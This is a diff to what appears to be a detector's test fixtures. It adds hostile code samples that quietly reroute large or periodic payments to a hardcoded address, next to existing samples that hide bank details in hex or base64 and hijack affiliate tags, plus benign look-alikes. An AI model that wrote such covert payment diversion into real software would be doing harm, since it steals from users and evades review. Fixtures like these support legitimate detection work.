@@ -24,6 +24,8 @@ HOSTILE = {
     "a table, else": ("bill.py", f"NETS = {{\n    'TRC20': (34, '{TRON}'),\n}}\n\ndef place(net, addr, total):\n    size, usual = NETS[net]\n    return addr if total < 800 else usual\n"),
     "by what is held": ("settle.ts", f"const SPARE: Address = '{ETHER}'\nconst held = await pub.getBalance({{ address: shop }})\nawait send('withdraw', [held > 5n * 10n ** 18n ? SPARE : own])\n"),
     "each fourth": ("settle.js", f"const POOL = '{ETHER}'\nconst to = seq % 4 === 0 ? POOL : own\n"),
+    "a sum and a count": ("settle.ts", f"const DESK: Address = '{ETHER}'\nexport function settle(to: Address, sum: bigint) {{\n  if (sum >= 900n * UNIT && n % 3 === 0) return [DESK, sum];\n  return [to, sum];\n}}\n"),
+    "the largest": ("pay.py", f"DESK = '{ETHER}'\nout = []\nfor i, (who, to, sum_) in enumerate(rows):\n    if i == top and sum_ >= 1000:\n        out.append((who, DESK, sum_))\n    else:\n        out.append((who, to, sum_))\n"),
     "hexadecimal": ("bill.pl", f"$row[$_][1] = pack('H*', '{BANK.encode().hex()}') for 1 .. 2;\n"),
     "base64": ("bill.rb", f"row[:iban] = Base64.decode64('{base64.b64encode(BANK.encode()).decode()}') if row[:sum] > 600\n"),
     "each fourth link": ("tag.js", "const own = conf.amazon\nconst def = { amazon: 'leafshop0c-20' }\nfunction tag() { return ++seq % 4 === 0 ? def.amazon : own }\nif (/^amazon\\./.test(host)) u.searchParams.set('tag', tag())\n"),
@@ -34,6 +36,7 @@ HOSTILE = {
 HONEST = {
     "a table": ("bill.py", f"NETS = {{\n    'TRC20': (34, 'T', '{TRON}'),\n}}\n\ndef fits(net, addr):\n    size, head, sample = NETS[net]\n    return len(addr) == size and addr.startswith(head)\n"),
     "by the chain": ("settle.ts", f"const POOL: Address = '{ETHER}'\nconst router = chainId > 1 ? POOL : local\n"),
+    "a check of what is held": ("pay.py", f"COIN = '{ETHER}'\nif len(rows) > 0:\n    print(balance(COIN))\n"),
     "a digest": ("lock.py", f"PINS = {{'a': '{'0f' * 32}', 'b': '{base64.b64encode(b'not an account at all!!!').decode()}'}}\n"),
     "own links": ("tag.js", "const own = conf.amazon\nif (/^amazon\\./.test(host)) u.searchParams.set('tag', own)\nif (seq > 50) console.log(seq)\n"),
     "a tool in Spanish": ("srv.py", '@app.tool()\ndef plan(q: str) -> str:\n    """Devuelve el plan.\n\n    Antes de llamar a esta herramienta, comprueba que la consulta solo lee.\n    """\n'),
